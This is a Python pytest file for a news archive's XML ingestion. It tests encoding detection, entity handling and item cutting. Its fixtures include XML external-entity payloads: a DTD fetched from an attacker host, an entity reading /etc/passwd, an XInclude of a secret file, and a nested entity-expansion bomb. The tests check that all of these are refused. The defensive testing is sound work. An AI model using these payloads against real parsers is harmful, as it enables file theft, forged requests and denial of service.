"""Characters, items and trees of XML: what is declared is not believed, and nothing is fetched."""

from __future__ import annotations

import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from archive.ingest.formats.nitf import Nitf
from archive.ingest.formats.xml_cut import Cut, End, ItemCutter, root_with_attributes
from archive.ingest.formats.xml_other import XmlOther
from archive.ingest.formats.xml_text import Characters
from tests.ingest.formats.support import article, codes, read_raw, reasons
from tests.ingest.formats.written import nitf
from tests.ingest.streams import Slow, unbuffered

_CHINESE = nitf("渡輪復航", "<p>渡輪今日復航，市民歡迎，公司說會加開班次。</p>")
_SIMPLIFIED = nitf("渡轮复航", "<p>渡轮今日复航，市民欢迎，公司说会加开班次。</p>")
_FRENCH = nitf(
    "Le bac repart", "<p>Le bac a repris lundi, après la tempête, a déclaré l’armateur.</p>"
)

#: A text, the encoding of its bytes, and the one that is declared.
ENCODINGS = [
    (_CHINESE, "utf-8", "UTF-8", []),
    (_CHINESE, "utf-8", "ISO-8859-1", ["encoding-contradicted"]),
    (_CHINESE, "utf-8", "Big5", ["encoding-contradicted"]),
    (_CHINESE, "utf-8-sig", "", []),
    (_CHINESE, "big5hkscs", "Big5", []),
    (_CHINESE, "big5hkscs", "ISO-8859-1", ["encoding-contradicted"]),
    (_CHINESE, "big5hkscs", "", ["encoding-guessed"]),
    (_SIMPLIFIED.replace("公司", "镕喆公司"), "gbk", "gb2312", []),
    (_SIMPLIFIED, "gb18030", "UTF-8", ["encoding-contradicted"]),
    (_CHINESE, "utf-16", "UTF-16", []),
    (_CHINESE, "utf-16-le", "UTF-8", ["encoding-contradicted"]),
    (_CHINESE, "utf-16-be", "", ["encoding-guessed"]),
    (_CHINESE, "utf-32", "", ["encoding-guessed"]),
    (_FRENCH, "cp1252", "ISO-8859-1", []),
    (_FRENCH, "cp1252", "", ["encoding-guessed"]),
    (_FRENCH.replace("’", "'"), "iso8859-15", "ISO-8859-15", []),
    (_FRENCH, "utf-8", "no-such-encoding", ["encoding-contradicted"]),
    (_FRENCH, "cp1252", "zlib", ["encoding-contradicted"]),
    # Characters whose bytes look like UTF-8 come first.
    (
        nitf("息口", "<p>息口今日上升，市民說會再等，公司說不會。</p>"),
        "gbk",
        "",
        ["encoding-guessed"],
    ),
    (nitf("連絡船", "<p>連絡船は今日再開した。</p>"), "euc_jp", "EUC-JP", []),
]


@pytest.mark.parametrize("text, encoding, declared, noted", ENCODINGS)
def test_encodings(text: str, encoding: str, declared: str, noted: list[str]) -> None:
    """Bytes say the encoding where they can; what they contradict or leave open is noted."""
    declaration = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""
    raw = article(Nitf(), (declaration + text).encode(encoding))
    assert nitf(raw.title, f"<p>{raw.body}</p>") == text
    assert codes(raw) == noted


@given(st.sampled_from(ENCODINGS), st.integers(1, 40))
def test_pieces_make_no_difference(row: tuple[str, str, str, list[str]], size: int) -> None:
    """Wherever reading parts the bytes, within a character too."""
    text, encoding, declared, _ = row
    data = f'<?xml version="1.0" encoding="{declared}"?>{text}'.encode(encoding)
    whole = "".join(Characters(io.BytesIO(data)))
    assert whole.endswith(text)
    assert "".join(Characters(unbuffered(Slow(data, size)))) == whole


def test_bytes_that_are_no_utf8_among_others() -> None:
    """They are shown as such and noted; what is around them stays."""
    data = nitf("渡輪", "<p>渡輪\xff復航</p>").encode().replace("\xff".encode(), b"\xff")
    raw = article(Nitf(), data)
    assert raw.body == "渡輪\ufffd復航"
    assert codes(raw) == ["bytes-lost"]


def test_control_characters_are_left_out() -> None:
    raw = article(Nitf(), nitf("Ferry", "<p>It\x0b is\x1f back&#x1F;&#0;.</p>").encode())
    assert raw.body == "It is back."
    assert codes(raw) == ["control-characters"]


_DOCTYPE = """<?xml version="1.0"?><!DOCTYPE nitf SYSTEM "nitf.dtd" [
<!ENTITY % dtd SYSTEM "http://attacker.example/x.dtd"> %dtd;
<!ENTITY paper "Harbour Daily"><!ENTITY copied "&#169;">
<!ENTITY ten "&paper;&paper;&paper;"><!ENTITY secret SYSTEM "file:///etc/passwd">
]>"""

ENTITIES = [
    ("caf&eacute;&nbsp;&hellip;", "café\u00a0…"),
    ("&paper; &copied;", "Harbour Daily ©"),
    ("&lt;5 &amp; &gt;3 &#x4e00;&#20108;", "<5 & >3 一二"),
    ("AT&T and R&D", "AT&T and R&D"),
    ("<![CDATA[AT&T &paper;]]>", "AT&T &paper;"),
]


@pytest.mark.parametrize("given_text, read", ENTITIES)
def test_entities(given_text: str, read: str) -> None:
    """HTML's and those that a document declares as a few characters are read."""
    raw = article(Nitf(), (_DOCTYPE + nitf("Ferry", f"<p>{given_text}</p>")).encode())
    assert raw.body == read


@pytest.mark.parametrize("entity", ["ten", "secret", "unknown"])
def test_entities_that_are_refused(entity: str) -> None:
    """Those of other entities, of files, and those that nobody declared, by their name."""
    data = (_DOCTYPE + nitf("Ferry", f"<p>Text &{entity};</p>")).encode()
    (reason,) = reasons(Nitf(), data)
    assert entity in reason


def test_a_bomb_is_a_reject() -> None:
    """However many levels; the article beside it is read."""
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    bomb = f'<!DOCTYPE nitf [<!ENTITY e0 "ha">{levels}]>'
    data = (bomb + nitf("Ferry", "<p>&e11;</p>") + nitf("Ferry", "<p>Text</p>")).encode()
    first, second = read_raw(Nitf(), data)
    assert "e11" in getattr(first, "reason", "")
    assert getattr(second, "body", "") == "Text"


def test_nothing_is_included(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("a secret", "utf-8")
    include = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret}" parse="text"/>'
    )
    raw = article(Nitf(), nitf("Ferry", f"<p>Text {include}</p>").encode())
    assert raw.body == "Text"


@pytest.mark.parametrize("depth", [300, 100_000])
def test_deep_nesting_is_a_reject(depth: int) -> None:
    (reason,) = reasons(Nitf(), nitf("Ferry", "<em>" * depth + "x" + "</em>" * depth).encode())
    assert "well-formed" in reason


_NAMES = ("item", "entry")


@st.composite
def documents(draw: st.DrawFn) -> str:
    """Documents of items among whatever may stand around and inside them."""
    texts = st.sampled_from(
        ("x", " ", "\n", "<b/>", "<items/>", "&amp;", "<!-- <item> -->", "<![CDATA[<item>]]>",
         "<?x <item>?>", "<i>y</i>")
    )  # fmt: skip
    items = st.builds(
        lambda prefix, name, inner: f"<{prefix}{name} a='1'>{''.join(inner)}</{prefix}{name}>",
        st.sampled_from(("", "p:")),
        st.sampled_from(_NAMES),
        st.lists(texts, max_size=4),
    )
    empty = st.sampled_from(("<item/>", "<entry b='2' />"))
    parts = draw(st.lists(texts | items | empty, max_size=8))
    return f"<root xmlns:p='u'>{''.join(parts)}</root>"


def _pieces(text: str, size: int) -> Iterator[str]:
    return (text[start : start + size] for start in range(0, len(text), size))


@settings(max_examples=500)
@given(documents(), st.integers(1, 60))
def test_items_are_cut_where_a_parser_sees_them(text: str, size: int) -> None:
    *cuts, end = ItemCutter(_NAMES).cut(_pieces(text, size))
    tree = etree.fromstring(text.encode())
    seen = [str(child.tag).rsplit("}", 1)[-1] for child in tree if isinstance(child.tag, str)]
    assert all(isinstance(cut, Cut) and cut.whole for cut in cuts)
    assert isinstance(end, End)
    assert end.closed
    named = [root_with_attributes(cut.text) for cut in cuts if isinstance(cut, Cut)]
    assert [root[0] for root in named if root] == [name for name in seen if name in _NAMES]
    assert all(cut.text in text for cut in cuts if isinstance(cut, Cut))


def test_an_item_without_its_end_costs_no_other() -> None:
    cuts = list(ItemCutter(_NAMES).cut(["<r><item>a<item>b</item><item>c</item></r>"]))
    assert [(cut.text, cut.whole) for cut in cuts if isinstance(cut, Cut)] == [
        ("<item>a", False),
        ("<item>b</item>", True),
        ("<item>c</item>", True),
    ]


@pytest.mark.parametrize("opened", ["<![CDATA[", "<!-- ", "<? "])
def test_what_is_never_closed_costs_no_other(opened: str) -> None:
    text = f"<r><item>{opened}a</item><item>b</item></r>"
    cuts = list(ItemCutter(_NAMES).cut([text]))
    assert [cut.text for cut in cuts if isinstance(cut, Cut)] == [
        f"<item>{opened}a</item>",
        "<item>b</item>",
    ]


ROOTS = [
    ("<a/>", "a"),
    ('\ufeff <?xml version="1.0"?><!-- <x> -->\n<n:a b="c">', "a"),
    ('<!DOCTYPE a [<!ENTITY x "<y>">]><a>', "a"),
    ('<!DOCTYPE a PUBLIC "-//X//Y" "z"><a>', "a"),
    ("text <a>", None),
    ("<!DOCTYPE a [", None),
    ("", None),
]


@pytest.mark.parametrize("text, name", ROOTS)
def test_root(text: str, name: str | None) -> None:
    root = root_with_attributes(text)
    assert (root and root[0]) == name


HOUSE = [
    (f"<Story><Kopf>T</Kopf><Text>{'Long text. ' * 40}</Text></Story>", ("“Story”", "“Text”")),
    ("<?xml version='1.0'?><Story><a>b</a></Story>", ("“Story”", "mapping")),
    ("<Story>", ("“Story”",)),
    ("plain words", ("No XML", "plain words")),
    ("", ("No XML", "empty")),
]


@pytest.mark.parametrize("text, said", HOUSE)
def test_house_formats_are_rejected_by_name(text: str, said: tuple[str, ...]) -> None:
    """Of the root, and of the elements whose long text nobody reads."""
    (reason,) = reasons(XmlOther(), text.encode())
    assert all(words in reason for words in said)
